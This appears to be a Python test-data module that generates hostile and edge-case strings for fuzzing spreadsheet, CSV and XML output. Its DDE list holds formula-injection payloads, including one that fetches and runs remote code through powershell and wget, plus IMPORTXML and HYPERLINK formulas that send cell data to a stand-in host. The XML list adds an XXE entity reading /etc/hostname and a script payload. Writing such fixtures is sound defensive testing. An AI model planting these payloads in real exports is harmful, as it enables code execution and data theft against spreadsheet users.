"""Texts that have broken a spreadsheet, a CSV or an XML file before: formulas, separators, escapes, every script."""

import sys
import unicodedata
from collections.abc import Iterator, Sequence
from itertools import count, islice

FORMULAS = ("=1+1", "=", "+1", "-1", "-", "@SUM(A1:A9)", '=HYPERLINK("http://x.example/?"&A1,"Click")', "=A1&B2")
DDE = (
    "=cmd|' /C calc'!A0",
    "+cmd|'/c powershell IEX(wget x.example/x)'!_xlbgnm.A1",
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!\"\"",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x.example/?v=",CONCATENATE(A2:E2)),"//a/a10")',
    '=WEBSERVICE("http://x.example")',
    "{=1+1}",
)
BEFORE_A_FORMULA = (
    "",
    "\t",
    "\r",
    "\n",
    "\r\n",
    " ",
    "\u00a0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\u202e",
    "'",
    '"',
    ";",
    ",",
    "\0",
)
FULL_WIDTH = ("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "\u22121", "\ufe621")
SEPARATORS = (
    *('"', '""', '"a"', 'a "quoted" word', ",", "a,b;c\td", "|", "\n", "\r", "\r\n", "two\nlines", "two\rlines"),
    *(
        "two\r\nlines",
        "\\",
        '\\"',
        "'",
        "'quoted'",
        " before",
        "after ",
        "\tbefore",
        "after\t",
        "after\n",
        " ",
        "\u2028",
    ),
    *("\u2029", "\u0085", "\v", "\f", "\x1c\x1d\x1e\x1f", ' "', '", "', '"\r\n="', "sep=,", "\x1a"),
)
CONTROLS = tuple(f"a{chr(number)}b" for number in (*range(32), *range(0x7F, 0xA0)))
XML = (
    *("<", ">", "&", "&amp;", "&lt;b&gt;", "&#0;", "&#x41;", "&nbsp;", "]]>", "<![CDATA[x]]>", "<!-- x -->", "<?x?>"),
    *("<b>bold</b>", "<r>", "<r/>", "<r></r>", "<r><t>rich</t></r>", "<r><rPr><b/></rPr><t>bold</t></r>"),
    '<r></is></c><c r="Z9"><f>HYPERLINK("http://x.example")</f></c><c t="inlineStr"><is></r>',
    *("</t></is></c>", "<script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/hostname'>]>&y;"),
)
ESCAPES = (
    *("_x0041_", "_x005F_x0041_", "_x0041_x0042_", "_x005f_", "_x0000_", "_x000D_", "_X0041_", "_x0041", "_x004_"),
    *("_x0041\0", "_x0041\ufffe", "__x0041__", "_x_x0041_", "\0_x0041_", "_\0x0041_", "_x003C_r>", "_xD83D_", "_"),
    *("\\u0041", "\\x41", "%41", "\\0", "\\n", "${x}", "{{x}}", "$(x)", "`x`"),
)
LOOKS_LIKE_SOMETHING_ELSE = (
    *("01", "1e5", "1E400", "0x10", "1,000.50", "1/2", "2026-01-01", "12:30", "TRUE", "false", "NULL", "null", "None"),
    *("NaN", "inf", "#REF!", "#N/A", "http://x.example", "https://x.example/a?b=c#d", "mailto:x@x.example"),
    *("internal:Sheet1!A1", "external:c:\\x.xlsx", "file:///etc/hostname", "ftp://x.example", "A1", "9" * 400, "$A$1"),
)
ODD_CHARACTERS = (
    *("\ufffd", "\ufffe", "\uffff", "\U0001fffe", "\U0010ffff", "\ue000", "\U000f0000", "\ufdd0", "\u00ad", "\u034f"),
    *("e\u0301", "\u1112\u1161\u11ab", "a" + "\u0300" * 50, "\u0041\u030a", "\u212b", "ﷺ", "ﬁ", "İstanbul", "ß", "ſ"),
    *(
        "\u202eabc\u202c",
        "\u2066abc\u2069",
        "\u200eabc\u200f",
        "abc \u05d0\u05d1\u05d2 123",
        "a\u200db\u200cc",
        "\u2060",
    ),
    *("🥐", "👩🏽‍🍳", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇦🇹", "1️⃣", "🏴\U000e0067\U000e0062\U000e007f", "❤️", "🫠", "☎︎"),
)
LONG = ("x" * 2_000, "🥐" * 2_000, "=" * 2_000, "\0" * 2_000, "&" * 2_000, "\n" * 2_000, '"' * 2_000, "_x0041_" * 285)


def scripts() -> Sequence[str]:
    """Some letters of every script that this Python's Unicode knows, a text each."""
    letters: dict[str, list[str]] = {}
    for number in range(0x80, sys.maxunicode + 1):
        if unicodedata.category(character := chr(number)).startswith("L"):
            script = unicodedata.name(character, "").partition(" ")[0]
            letters.setdefault(script, []).append(character)
    return ["".join(some[:8]) for some in letters.values() if len(some) > 1]


def _texts() -> Iterator[str]:
    for before in BEFORE_A_FORMULA:
        yield from (before + formula for formula in (*FORMULAS, *DDE))
    for some in (FULL_WIDTH, SEPARATORS, CONTROLS, XML, ESCAPES, LOOKS_LIKE_SOMETHING_ELSE, ODD_CHARACTERS, LONG):
        yield from some
    yield from scripts()
    firsts, seconds = XML + ESCAPES + DDE, SEPARATORS + ODD_CHARACTERS + CONTROLS
    for shift in count():  # two of them at once, each with another one each time
        for number, first in enumerate(firsts):
            yield first + seconds[(number + shift) % len(seconds)]


def hostile_texts(most: int) -> Sequence[str]:
    return list(islice(dict.fromkeys(islice(_texts(), 2 * most)), most))
